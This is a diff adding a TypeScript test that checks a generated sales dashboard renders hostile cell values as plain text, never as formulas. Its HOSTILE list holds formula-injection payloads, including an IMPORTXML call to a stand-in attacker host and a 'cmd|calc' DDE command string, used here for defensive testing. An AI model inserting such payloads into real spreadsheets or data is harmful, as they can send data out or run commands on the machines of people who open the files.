@@ -1,0 +1,42 @@
+// Strings from the data that begin with = + - @ land on a dashboard as text: no formula is ever created.
+
+import { existsSync } from 'node:fs';
+import { snapshotWorkbook } from '../../scripts/runtime';
+import { BUNDLE, DEALS, setup, tab } from '../reliability/runtime-fixture';
+
+const HOSTILE = ['=IMPORTXML("http://evil.example","//a")', '+33 6 12 34 56 78', '-2+3+cmd|calc', '@SUM(1,2)', '=1+1'];
+
+const describeBuilt = existsSync(BUNDLE) ? describe : describe.skip;
+
+describeBuilt('hostile cells on a generated dashboard', () => {
+  const deals = [
+    ...DEALS,
+    ['D6', '2024-03-01', '2024-03-11', 'Won', 100, HOSTILE[0], HOSTILE[1], ''],
+    ['D7', '2024-03-01', '2024-03-12', 'Won', 100, HOSTILE[2], HOSTILE[3], ''],
+    ['D8', '2024-03-01', '2024-03-13', 'Lost', 100, HOSTILE[3], HOSTILE[4], HOSTILE[0]],
+    ['D9', '2024-03-01', '2024-03-14', 'Lost', 100, 'Bob', 'Web', HOSTILE[4]],
+  ];
+  const { runtime, workbook } = setup({ deals });
+  const dataBefore = snapshotWorkbook(workbook).sheets[0];
+  runtime.call('generateLastMonthDashboard');
+  const sheet = tab(workbook);
+
+  test('the tab is generated without any alert', () => {
+    expect(runtime.ui.alerts).toEqual([]);
+    expect(sheet).toBeDefined();
+  });
+
+  test('no cell of the tab holds a formula', () => {
+    expect(sheet!.formulas.flat().filter((f) => f !== '')).toEqual([]);
+  });
+
+  test.each(HOSTILE)('%s appears verbatim as text', (text) => {
+    expect(sheet!.values.flat()).toContain(text);
+  });
+
+  test('the data sheet itself is left exactly as the user wrote it', () => {
+    const data = workbook.sheets.find((s) => s.name === 'Deals')!;
+    expect(data).toEqual(dataBefore);
+    expect(data.values.flat()).toEqual(expect.arrayContaining(HOSTILE));
+  });
+});
